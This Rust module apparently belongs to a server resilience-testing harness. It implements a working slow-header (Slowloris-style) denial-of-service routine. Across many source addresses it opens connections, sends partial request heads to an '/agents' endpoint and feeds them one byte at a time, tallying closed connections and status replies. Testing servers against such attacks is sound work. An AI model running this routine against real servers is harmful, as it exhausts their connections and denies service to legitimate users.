//! Heads of requests that come byte by byte, each from an address of its own. One thread holds them all.

use std::io::{ErrorKind, Read, Write};
use std::net::TcpStream;
use std::time::{Duration, Instant};

use super::{Client, Outcome, Size, Stop, Target, address};

const BEGINNING: &[u8] = b"GET /agents HTTP/1.1\r\nHost: x\r\nX-Slow: ";

pub(super) fn run(target: &Target, size: Size, stop: &Stop) -> Outcome {
    let mut outcome = Outcome::default();
    let mut held: Vec<Option<TcpStream>> = (0..size.attackers).map(|_| None).collect();
    let pause = Duration::from_secs(size.amount as u64).max(Duration::from_millis(10));
    while !stop.is_set() {
        let round = Instant::now();
        for (number, place) in held.iter_mut().enumerate() {
            if stop.is_set() {
                break;
            }
            *place = match place.take() {
                Some(stream) => go_on(stream, &mut outcome),
                None => {
                    outcome.sent += 1;
                    begin(target, number, stop)
                }
            };
        }
        stop.sleep(pause.saturating_sub(round.elapsed()).max(Duration::from_millis(10)));
    }
    outcome
}

fn begin(target: &Target, number: usize, stop: &Stop) -> Option<TcpStream> {
    let mut client = Client::new(target.server, address(number)).until(stop);
    client.patience = Duration::from_secs(1);
    let mut stream = client.connect(None).ok()?;
    stream.write_all(BEGINNING).ok()?;
    stream.set_nonblocking(true).ok()?;
    Some(stream)
}

/// Sends another byte, unless the server has closed or refused the head.
fn go_on(mut stream: TcpStream, outcome: &mut Outcome) -> Option<TcpStream> {
    let mut reply = [0; 64];
    match stream.read(&mut reply) {
        Ok(0) => {
            outcome.closed += 1;
            None
        }
        Ok(length) => {
            let text = String::from_utf8_lossy(reply.split_at(length).0).into_owned();
            outcome.note(text.split_whitespace().nth(1).and_then(|code| code.parse().ok()).unwrap_or(0));
            None
        }
        Err(error) if error.kind() == ErrorKind::WouldBlock => match stream.write(b"x") {
            Ok(_) => Some(stream),
            Err(error) if error.kind() == ErrorKind::WouldBlock => Some(stream),
            Err(_) => {
                outcome.closed += 1;
                None
            }
        },
        Err(_) => {
            outcome.closed += 1;
            None
        }
    }
}
